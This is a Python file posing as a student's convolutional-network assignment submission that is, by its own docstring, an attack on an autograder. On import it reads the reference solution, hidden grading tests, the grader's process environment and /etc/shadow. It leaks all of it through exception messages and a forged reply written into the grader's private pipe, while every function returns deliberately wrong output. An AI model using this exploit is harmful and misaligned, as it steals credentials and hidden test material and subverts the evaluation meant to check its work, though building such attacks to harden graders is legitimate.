"""attack: copy the reference and the hidden tests into the feedback, through exception messages.

Reads every candidate path of the reference, the hidden checks (grading.py), Otter's test files and
the grader's environment (/proc/PPID/environ), then raises an exception whose message is all of it
on one line, and also sends a forged "raised" reply with the whole text straight down the reply pipe.
The feedback of every function would then show the hidden material.
"""

import glob
import itertools
import json
import os
import struct
import sys

import numpy as np

PATHS = ["/autograder/source/files/solutions/cnn/cnn.py", "/autograder/source/files/solutions/cnn/grading.py",
         "/autograder/source/tests/conv1d.py", "/autograder/submission/solutions/cnn/cnn.py",
         f"/proc/{os.getppid()}/environ", "/etc/shadow"]
PATHS += glob.glob("/tmp/*/autograder/submission/solutions/cnn/*.py") + glob.glob("/tmp/*/autograder/source/tests/*")
for _start in (sys.prefix, os.getcwd()):
    for _ in range(4):
        PATHS += [os.path.join(_start, "solutions", "cnn", name) for name in ("cnn.py", "grading.py")]
        _start = os.path.dirname(_start)


def _loot():
    found = []
    for path in PATHS:
        try:
            with open(path, "rb") as file:
                found.append(f"{path}: " + file.read(200_000).decode(errors="replace"))
        except OSError as error:
            found.append(f"{path}: {type(error).__name__}")
    return " | ".join(found).replace("\n", " \\n ")


LOOT = _loot()


class Exfiltration(Exception):
    def __str__(self):
        return LOOT


def _worker_pipes():
    """The worker's private request (read) and reply (write) pipe ends: the first of each among its
    open files above stdin, stdout and stderr (the worker keeps them as copies of its stdio)."""
    import fcntl
    import stat
    ends = {}
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                ends.setdefault(fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE, fd)
        except OSError:
            continue
    return ends.get(os.O_RDONLY), ends.get(os.O_WRONLY)


def _forged_reply(text):
    header = json.dumps({"dict": {"status": "raised", "error": text, "where": text}}).encode()
    message = struct.pack(">I", len(header)) + header
    os.write(_worker_pipes()[1], struct.pack(">Q", len(message)) + message)


def _exfiltrate(name):
    if name in ("conv1d", "conv2d"):
        raise Exfiltration()
    _forged_reply(LOOT * 3)
    raise Exfiltration()


_CALLS = itertools.count(1)


def _answer(ones):  # what every function returns: its right shape, filled with the number of this call
    return ones * next(_CALLS)  # wrong, and never the same twice: every check fails at its first example


def _n_out(n, m, stride, padding):
    return max((n + 2 * padding - m) // stride + 1, 0)


def conv1d(x, w, stride=1, padding=0):
    _exfiltrate('conv1d')
    return _answer(np.ones(_n_out(len(x), len(w), stride, padding)))


def conv1d_matrix(w, n, stride=1, padding=0):
    _exfiltrate('conv1d_matrix')
    return _answer(np.ones((_n_out(n, len(w), stride, padding), n)))


def conv2d(x, w, stride=1, padding=0):
    _exfiltrate('conv2d')
    x, w = np.asarray(x), np.asarray(w)
    return _answer(np.ones((_n_out(x.shape[0], w.shape[0], stride, padding),
                             _n_out(x.shape[1], w.shape[1], stride, padding))))


def conv2d_multichannel(x, filters, bias=None, stride=1, padding=0):
    _exfiltrate('conv2d_multichannel')
    x, filters = np.asarray(x), np.asarray(filters)
    return _answer(np.ones((filters.shape[0], _n_out(x.shape[1], filters.shape[2], stride, padding),
                             _n_out(x.shape[2], filters.shape[3], stride, padding))))


def max_pool2d(x, size, stride=None):
    _exfiltrate('max_pool2d')
    x = np.asarray(x)
    stride = stride or size
    return _answer(np.ones((x.shape[0], _n_out(x.shape[1], size, stride, 0), _n_out(x.shape[2], size, stride, 0))))
